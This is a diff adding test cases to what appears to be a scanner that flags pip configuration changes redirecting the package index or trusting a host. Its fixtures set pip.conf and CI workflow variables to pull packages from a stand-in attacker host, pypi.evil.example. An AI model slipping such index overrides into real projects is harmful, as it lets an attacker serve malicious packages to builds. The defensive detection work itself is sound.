@@ -231,6 +231,37 @@ const cases: Case[] = [
     want: ['CPU025@pip.conf:3', 'CPU026@pip.conf:4'],
   },
   {
+    // configuration.py `_normalize_name` and cmdoptions' `--pypi-url` alias of `--index-url`: the head scan's names.
+    name: 'pip.conf points pypi-url elsewhere → CPU025',
+    base: { 'pip.conf': '[global]\ntimeout = 60\n' },
+    head: { 'pip.conf': '[global]\ntimeout = 60\npypi_url = https://pypi.evil.example/simple\n' },
+    want: ['CPU025@pip.conf:3'],
+  },
+  {
+    // pip's `get_environ_vars` / `_normalize_name`: every spelling of the option's name after a case-sensitive `PIP_`.
+    name: 'a workflow sets PIP_PYPI_URL, PIP___TRUSTED_HOST and pip config set global.index_url → CPU025 and CPU026',
+    base: { '.github/workflows/ci.yml': workflow('pip install -r requirements.txt') },
+    head: {
+      '.github/workflows/ci.yml': workflow(
+        'PIP_PYPI_URL=https://pypi.evil.example/simple PIP___TRUSTED_HOST=pypi.evil.example pip install -r requirements.txt && pip config set global.index_url https://pypi.evil.example/simple',
+      ),
+    },
+    want: ['CPU025@.github/workflows/ci.yml:8', 'CPU026@.github/workflows/ci.yml:8'],
+  },
+  {
+    // The same settings spelled another way, and a lower-case `pip_` prefix pip does not read.
+    name: 'PIP_INDEX_URL spelled PIP_Index_Url, pip_trusted_host → nothing',
+    base: {
+      '.github/workflows/ci.yml': workflow('PIP_INDEX_URL=https://pypi.org/simple pip install -r requirements.txt'),
+    },
+    head: {
+      '.github/workflows/ci.yml': workflow(
+        'PIP_Index_Url=https://pypi.org/simple pip_trusted_host=pypi.org pip install -r requirements.txt',
+      ),
+    },
+    want: [],
+  },
+  {
     name: 'pyproject [tool.uv] gains an index → CPU025; uv.toml allows an insecure host → CPU026',
     base: { 'pyproject.toml': '[project]\nname = "app"\nversion = "1"\n', 'uv.toml': 'native-tls = true\n' },
     head: {
